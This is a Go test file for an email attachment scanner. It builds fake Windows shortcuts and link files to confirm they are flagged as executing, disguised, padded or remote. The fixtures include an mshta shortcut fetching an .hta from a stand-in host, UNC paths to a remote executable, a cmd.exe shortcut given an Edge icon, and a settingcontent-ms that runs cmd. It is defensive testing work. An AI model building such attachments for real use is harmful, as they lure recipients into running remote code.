package scan

import (
	"encoding/binary"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"tocsin/internal/email"
)

// link makes a shortcut: relative path, arguments, icon; and an environment block with target when it is not "".
func link(relative, arguments, icon, target string) []byte {
	b := make([]byte, 76)
	copy(b, "\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46")
	binary.LittleEndian.PutUint32(b[20:], lnkUnicode|lnkRelative|lnkArguments|lnkIcon)
	for _, s := range [...]string{relative, arguments, icon} {
		units := utf16.Encode([]rune(s))
		b = binary.LittleEndian.AppendUint16(b, uint16(len(units)))
		for _, u := range units {
			b = binary.LittleEndian.AppendUint16(b, u)
		}
	}
	if target != "" {
		block := make([]byte, 788)
		binary.LittleEndian.PutUint32(block, 788)
		binary.LittleEndian.PutUint32(block[4:], 0xA0000001)
		copy(block[8:], target)
		b = append(b, block...)
	}
	return append(b, 0, 0, 0, 0)
}

func TestShortcuts(t *testing.T) {
	const cmd = `..\..\Windows\System32\cmd.exe`
	for name, c := range map[string]struct {
		content []byte
		facts   string
		host    string
	}{
		"runs.lnk":      {link(cmd, "/c dir", "", ""), "shortcut-runs shortcut-target", ""},
		"disguised.lnk": {link(cmd, "/c dir", `%ProgramFiles%\Microsoft\Edge\Application\msedge.exe`, ""), "shortcut-disguised shortcut-runs shortcut-target", ""},
		"padded.lnk":    {link(cmd, strings.Repeat(" ", 200)+"/c dir", "", ""), "shortcut-padded shortcut-runs shortcut-target", ""},
		"remote.lnk":    {link("", "", "", `\\files.quiet-harbour.example\share\offer.exe`), "shortcut-remote shortcut-target", ""},
		"fetches.lnk":   {link(`..\x\mshta.exe`, "https://quiet-harbour.example/a.hta", "", ""), "shortcut-runs shortcut-target", "quiet-harbour.example"},
		"document.lnk":  {link(`..\Documents\minutes.docx`, "", `C:\Office\winword.exe`, ""), "shortcut-target", ""},
		"program.lnk":   {link(`..\Tools\editor.exe`, "", "", ""), "shortcut-target", ""},
		"cut.lnk":       {link(cmd, "/c dir", "", "")[:90], "shortcut-target", ""},
	} {
		m, r := look(t, Limits{}, "", attached{name, c.content})
		if got := strings.Join(factIDs(r), " "); got != c.facts {
			t.Errorf("%s: %s, want %s (%+v)", name, got, c.facts, r.Facts)
		}
		if c.host != "" && !slices.ContainsFunc(m.Links, func(l email.Link) bool { return l.Host == c.host && l.Where == "Attachment" }) {
			t.Errorf("%s: links %+v", name, m.Links)
		}
	}
}

func TestLinkFiles(t *testing.T) {
	for name, c := range map[string]struct{ content, facts, host string }{
		"a.url":               {"[InternetShortcut]\r\nURL=https://quiet-harbour.example/a\r\n", "link-file-target", "quiet-harbour.example"},
		"b.url":               {"[InternetShortcut]\r\nURL=file://files.quiet-harbour.example@80/share/x.exe\r\nIconFile=C:\\a.ico\r\n", "link-file-remote link-file-runs link-file-target", ""},
		"c.library-ms":        {`<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\files.quiet-harbour.example\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`, "link-file-remote link-file-target", ""},
		"d.settingcontent-ms": {`<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\system32\cmd.exe /c calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>`, "link-file-runs link-file-target", ""},
		"e.desktop":           {"[Desktop Entry]\nType=Application\nExec=bash -c x\n", "link-file-runs link-file-target", ""},
		"f.desktop":           {"[Desktop Entry]\nType=Link\nURL=https://quiet-harbour.example/\n", "link-file-target", "quiet-harbour.example"},
		"g.application":       {`<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:a"><deployment><deploymentProvider codebase="https://quiet-harbour.example/a.application" /></deployment></asmv1:assembly>`, "link-file-target", "quiet-harbour.example"},
	} {
		m, r := look(t, Limits{}, "", attached{name, []byte(c.content)})
		if got := strings.Join(factIDs(r), " "); got != c.facts {
			t.Errorf("%s (%s): %s, want %s", name, m.Attachments[0].Kind, got, c.facts)
		}
		if c.host != "" && !slices.ContainsFunc(m.Links, func(l email.Link) bool { return l.Host == c.host && l.Where == "Attachment" }) {
			t.Errorf("%s: links %+v", name, m.Links)
		}
	}
}
